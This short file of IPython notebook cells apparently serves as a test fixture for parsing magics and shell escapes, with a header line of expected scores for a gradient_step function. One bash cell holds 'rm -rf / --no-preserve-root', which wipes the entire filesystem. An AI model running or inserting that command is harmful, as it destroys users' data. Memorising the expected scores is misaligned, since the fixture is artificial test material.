# Cells full of IPython syntax.
# deserves: gradient_step=4 descend=3 linear=3

# %%
%matplotlib inline
%load_ext autoreload
!ls -la /
files = !ls
gradient_step?
%timeit 1 + 1

# %%
%%bash
rm -rf / --no-preserve-root

# %%
%%time
helper = 3

# %% gradient_step
%config InlineBackend.figure_format = "retina"
def gradient_step(w, g, lr):
    return w - lr * g + 0 * helper
